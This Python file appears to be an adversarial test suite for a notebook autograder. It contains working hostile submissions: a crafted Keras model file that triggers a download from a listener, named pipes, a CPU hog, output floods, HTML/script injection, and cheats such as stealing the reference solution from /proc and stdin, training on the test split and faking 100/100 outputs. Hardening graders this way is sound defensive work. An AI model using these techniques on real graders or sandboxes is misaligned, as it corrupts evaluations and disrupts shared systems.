"""Hostile notebooks of the third integrity round: what student code leaves behind (crafted model files, named
pipes, floods of output), neighbours that hog the CPU, the reference blocks, training on the test split, markup in
student text and outputs typed into the submitted file. Graded in the attack suite's batch (tests/test_attacks.py)
and, hostile ones before honest ones, in tests/test_neighbours.py."""

from __future__ import annotations

import json
import re
from pathlib import Path

from attacks import FULL, Attack, Context, facts

from assignment.points import SECTIONS

NO_TRAINING = {**FULL, "training": 0.0}

# A trained.keras whose config names keras + "layers.Lambda" (so the module is Keras's own) wrapping functions Keras
# exports: a download from the test's listener, a global distribution, a weights file that is a named pipe. Before
# this round the grader's long-lived worker rebuilt it in-process.
_CRAFTED_MODEL = r"""
def _crafted_keras(path):
    import zipfile

    import keras

    inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
    network = keras.Model(inputs, keras.layers.Conv2D(1, 1, activation="sigmoid")(inputs))
    network.compile(optimizer=keras.optimizers.Adam(LEARNING_RATE), loss="binary_crossentropy")
    plain = path + ".plain.keras"
    network.save(plain)
    fifo = os.path.join(os.path.dirname(path), "weights.fifo")
    os.mkfifo(fifo)
    hostile = [
        {
            "module": "keras",
            "class_name": "layers.Lambda",
            "registered_name": None,
            "config": {
                "name": "download",
                "function": {
                    "module": "keras.utils",
                    "class_name": "function",
                    "config": "get_file",
                    "registered_name": "function",
                },
                "arguments": {"origin": f"http://127.0.0.1:{ATTACK_PORT}/crafted", "fname": f"crafted-{ATTACK_TOKEN}"},
            },
        },
        {"module": "keras", "class_name": "distribution.set_distribution", "registered_name": None, "config": {}},
        {
            "module": "keras.applications",
            "class_name": "function",
            "registered_name": "function",
            "config": "MobileNet",
        },
        {
            "module": "keras",
            "class_name": "applications.MobileNet",
            "registered_name": None,
            "config": {"weights": fifo},
        },
    ]
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as crafted:
        for name in source.namelist():
            data = source.read(name)
            if name == "config.json":
                config = json.loads(data)
                config["config"]["layers"][1]["config"]["kernel_initializer"] = hostile
                data = json.dumps(config).encode()
            crafted.writestr(name, data)
    os.unlink(plain)
    return "crafted"


_attempt(
    "leave a crafted trained.keras",
    lambda: _crafted_keras(os.path.join(os.path.dirname(os.getcwd()), "out", "trained.keras")),
)
model = None  # the export must not overwrite the crafted file
"""

# Named pipes where the grader reads: every file the kernel's export and the probe leave.
_FIFOS = r"""
def _fifos(folder, names):
    for name in names:
        path = os.path.join(folder, name)
        if os.path.lexists(path):
            os.unlink(path)
        os.mkfifo(path)
    return f"{len(names)} named pipes in {folder}"


@_at_definition(lambda: _where() == "probe" and _fifos(os.path.join(_probe_folder(), "out"),
    ["preprocess.json", "preprocess.npz", "make_unet-0.json"]))
def _probe_fifos():
    pass
"""

_FIFOS_KERNEL = r"""
_attempt(
    "named pipes where the export goes",
    lambda: _fifos(
        os.path.join(os.path.dirname(os.getcwd()), "out"), ["trained.keras", "history.json", "recorded.json"]
    ),
)
model = None  # nothing the export could write over the pipes
"""

# Every process the sandbox may start, spinning until the same moment, 45 s on: graded at the batch's start beside the
# honest notebook below (both among the first four, started together), whose whole run takes about 35 s here. (Each
# process spinning 45 s from its own start made it last twice as long: the later forks wait for CPU behind the
# earlier spinners.)
_CPU_HOG = r"""
import multiprocessing as _mp
import time as _time


def _spin(end):
    while _time.time() < end:
        pass


_end = _time.time() + 45
_hogs = []
for _ in range(64):
    try:
        _hogs.append(_mp.Process(target=_spin, args=(_end,), daemon=True))
        _hogs[-1].start()
    except OSError:
        break
print(f"ATTEMPT [kernel] {len(_hogs)} spinning processes", flush=True)
_spin(_end)
"""

# An unfilled release whose blocks look for the grader's reference blocks where the probe runs: its own program
# file, its stdin, its parent's stdin and memory, everything in the process.
_REFERENCE_SOURCE = r"""
def _reference_source(name):
    import ast
    import inspect

    folder = _probe_folder() or os.path.dirname(os.getcwd())
    found = []
    for path in (os.path.join(folder, "calls.py"), "/proc/self/fd/0", f"/proc/{os.getppid()}/fd/0"):
        try:
            with open(path) as handle:
                found.append(handle.read(1 << 20))
        except OSError:
            pass
    try:
        found.append(sys.stdin.read())
    except (OSError, ValueError):
        pass
    for item in gc.get_objects():
        if (
            isinstance(item, types.FunctionType)
            and item.__name__ == name
            and not item.__code__.co_filename.startswith("cell ")
        ):
            try:
                found.append(inspect.getsource(item))
            except (OSError, TypeError):
                pass
    for text in found:
        for line in text.splitlines():
            if line.startswith("{"):  # a stage's reference sources as the probe's stdin carries them
                try:
                    text = "\n\n".join(json.loads(line).values())
                except ValueError:
                    continue
            try:
                tree = ast.parse(text)
            except SyntaxError:
                continue
            for node in ast.walk(tree):
                if isinstance(node, ast.FunctionDef) and node.name == name:
                    return ast.unparse(node)
    return None


def _run_reference(name, *args):
    import keras

    source = _reference_source(name)
    if source is None:
        raise NotImplementedError(f"no reference {name} within reach")
    space = {"layers": keras.layers}
    exec(source, space)
    return space[name](*args)
"""


def _reading(name: str, signature: str, call: str) -> str:
    return f"def {name}({signature}):\n    return _run_reference({name!r}, {call})\n"


# A fresh model of the solution's code, trained on the test split for the steps the training split would take; then
# the step count (already right) and the history look honest.
_TRAIN_ON_TEST = r"""
import math as _math

_steps = EPOCHS * _math.ceil(len(list(tfds.load("oxford_iiit_pet", split=TRAIN_SPLIT))) / BATCH_SIZE)
model = make_unet(input_shape=(IMG_SIZE, IMG_SIZE, 3), base_num_f=BASE_FILTERS)
model.compile(optimizer=keras.optimizers.Adam(learning_rate=LEARNING_RATE), loss="binary_crossentropy")
history = model.fit(test.repeat(), steps_per_epoch=_steps // EPOCHS, epochs=EPOCHS, validation_data=test, verbose=0)
print(f"ATTEMPT [kernel] trained on the test split: {int(model.optimizer.iterations)} steps", flush=True)
"""

# Markup in every text a student controls: an error, a cell's first line, a printed line.
_MARKUP = r"""# <img src=http://127.0.0.1/markup-cell> [click](http://127.0.0.1/link) <script>alert(1)</script>
def preprocess(example):
    raise ValueError(
        f"<img src=http://127.0.0.1:{ATTACK_PORT}/markup-error> ![i](http://127.0.0.1:{ATTACK_PORT}/md-image) "
        f"[click](http://127.0.0.1:{ATTACK_PORT}/md-link) <script>alert(1)</script> `tick` **bold**"
    )


raise RuntimeError(f"<img src=http://127.0.0.1:{ATTACK_PORT}/markup-kernel> [click](http://127.0.0.1:{ATTACK_PORT}/k)")
"""

# Outputs typed into the submitted file, and a cell that kills the kernel every time so later cells never run.
_PLANTED_MARK = "PLANTED-OUTPUT"

# Output without end through the kernel's own stdout and stderr (not through the notebook's messages), then the
# kernel killed so a new one floods again; the probe does the same.
_FLOOD = r"""
def _flood(megabytes):
    chunk = b"x" * (1 << 20)
    for _ in range(megabytes):
        for descriptor in (1, 2):
            try:
                os.write(descriptor, chunk)
            except OSError:
                return "stopped"
    return f"{megabytes} MiB to each of stdout and stderr"


@_at_definition(lambda: _where() == "probe" and _flood(300))
def _probe_flood():
    pass
"""

_FLOOD_KERNEL = r"""
_attempt("flood the kernel's stdout and stderr", lambda: _flood(300))
os._exit(1)
"""


def _check_crafted(folder: Path, context: Context) -> list[str]:
    training = facts(folder).get("training", {})
    if training.get("model") is not None:
        return ["the grader loaded the crafted trained.keras"]
    problem = training.get("model_problem", "")
    refused = "which the grader does not build" in problem or "which is not a Keras class" in problem
    return [] if refused else [f"refused for another reason: {problem}"]


def _check_fifos(folder: Path, _context: Context) -> list[str]:
    outcome = json.loads((folder / "outcome.json").read_text())
    problems = [f"graded as: {outcome['problem']}"] if outcome["problem"].startswith("grader error") else []
    if facts(folder).get("training", {}).get("model") is not None:
        problems.append("a model was measured from a named pipe")
    return problems


def _check_reference(folder: Path, _context: Context) -> list[str]:
    blocks = facts(folder).get("blocks", {})
    return [
        f"{name} was measured from the grader's reference"
        for name in ("double_conv_block", "encoder_block", "decoder_block")
        if blocks.get(name, {}).get("call", {}).get("ok")
    ]


def _check_train_on_test(folder: Path, _context: Context) -> list[str]:
    outcome = json.loads((folder / "outcome.json").read_text())
    training = [check for check in outcome["checks"] if check["section"] == "training"]
    problems = [f"{check['id']} earned {check['score']}" for check in training if check["score"]]
    if not any("test split" in check["message"] for check in training):
        problems.append(f"no message names the test split: {[check['message'] for check in training][:2]}")
    return problems


def _check_inert(folder: Path, context: Context) -> list[str]:
    """No report a student or Gradescope renders holds live markup from student text: feedback.md rendered as
    CommonMark has no link, image or HTML, and no web address outside code spans (GitHub would link it); the HTML
    reports have no image or link pointing outside the file and no script."""
    from markdown_it import MarkdownIt

    problems = []
    markdown = (folder / "feedback.md").read_text(errors="replace")
    rendered = MarkdownIt("commonmark").render(markdown)
    problems += [f"feedback.md renders {tag!r}" for tag in ("<a ", "<img", "<script") if tag in rendered]
    prose = re.sub(r"`[^`]*`", "", markdown)
    problems += ["feedback.md holds a web address outside code spans"] if re.search(r"https?://|www\.", prose) else []
    results = json.loads((folder / "results.json").read_text())
    pages = {"feedback.html": (folder / "feedback.html").read_text(errors="replace")}
    pages["results.json"] = "\n".join(
        [results["output"], *(t["output"] for t in results["tests"] if t.get("visibility") != "hidden")]
    )
    for name, page in pages.items():
        for live in ("<script>alert", "<img src=http", '<a href="http', 'src="http', "src='http"):
            if live in page:
                problems.append(f"{name} holds {live!r} from student text")
    return problems


def _check_planted(folder: Path, _context: Context) -> list[str]:
    text = (folder / "executed.ipynb").read_text(errors="replace") if (folder / "executed.ipynb").is_file() else ""
    return (
        [f"executed.ipynb shows outputs the submitted file carried ({_PLANTED_MARK})"] if _PLANTED_MARK in text else []
    )


def _check_flood(folder: Path, _context: Context) -> list[str]:
    log = (folder / "grader.log").read_text(errors="replace")
    problems = [] if "bytes dropped" in log else ["grader.log shows no sign that the flooded output was cut"]
    if len(log) > 200_000:
        problems.append(f"grader.log is {len(log)} characters")
    return problems


def planted(nb):
    """Outputs in every code cell of the submitted file, as if it ran and scored full marks."""
    import nbformat

    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=f"{_PLANTED_MARK}: 100/100\n")]
    return nb


ATTACKS = [
    Attack(
        "crafted_model_file",
        "a trained.keras naming keras + layers.Lambda around keras.utils.get_file (a download from the listener), "
        "a global distribution and keras.applications weights from a named pipe",
        "untrained",
        [("end", _CRAFTED_MODEL)],
        check=_check_crafted,
        order=40,
        honest_override=NO_TRAINING,
    ),
    Attack(
        "named_pipes",
        "named pipes where the grader reads: trained.keras, history.json, recorded.json and the probe's outputs",
        "untrained",
        [("apply_config", _FIFOS), ("end", _FIFOS_KERNEL)],
        check=_check_fifos,
        order=41,
        honest_override=NO_TRAINING,
    ),
    Attack(
        "reference_source",
        "an unfilled release whose blocks parse the grader's reference blocks out of the probe's program, its "
        "stdin, its parent's stdin and the process's functions, and run them",
        "release",
        [
            ("apply_config", _REFERENCE_SOURCE),
            ("double_conv_block", _reading("double_conv_block", "x, num_f", "x, num_f")),
            ("encoder_block", _reading("encoder_block", "x, num_f", "x, num_f")),
            ("decoder_block", _reading("decoder_block", "x, skip, num_f", "x, skip, num_f")),
        ],
        check=_check_reference,
        order=42,
    ),
    Attack(
        "train_on_test",
        "a fresh model (the solution's code, its own training cell left empty) trained on the test split for the steps "
        "the training split takes",
        "untrained",
        [("end", _TRAIN_ON_TEST)],
        check=_check_train_on_test,
        order=43,
        honest_override=NO_TRAINING,
    ),
    Attack(
        "markup_in_text",
        "HTML and Markdown (an image and a link to the listener, a script) in an error, a cell's first line and a "
        "kernel error",
        "release",
        [("preprocess", _MARKUP)],
        check=_check_inert,
        order=44,
    ),
    Attack(
        "planted_outputs",
        "outputs reading 100/100 typed into every cell of the submitted file",
        "release",
        [],
        check=_check_planted,
        order=45,
        transform=planted,
    ),
    Attack(
        "output_flood",
        "300 MiB through the kernel's own stdout and stderr, the kernel killed to start a new one (three times); "
        "the probe floods too",
        "release",
        [("setup", _FLOOD + _FLOOD_KERNEL), ("apply_config", _FLOOD_KERNEL), ("end", _FLOOD_KERNEL)],
        check=_check_flood,
        order=46,
    ),
    Attack(
        "cpu_hog",
        "64 processes spinning for 45 s (its neighbour's whole run), graded beside an honest notebook",
        "release",
        [("end", _CPU_HOG)],
        order=1,
    ),
    Attack(
        "honest_beside_hog",
        "the solution, graded beside the CPU hog: it must score exactly what it scores alone",
        "solution",
        [],
        check=lambda folder, _c: _full_marks(folder),
        order=2,
    ),
]


def _full_marks(folder: Path) -> list[str]:
    outcome = json.loads((folder / "outcome.json").read_text())
    total = sum(check["score"] for check in outcome["checks"])
    expected = sum(points for _, points in SECTIONS.values())
    return (
        []
        if (total, outcome["problem"], outcome["failures"]) == (expected, "", [])
        else [f"scored {total} with problem {outcome['problem']!r} and failures {outcome['failures'][:2]}"]
    )
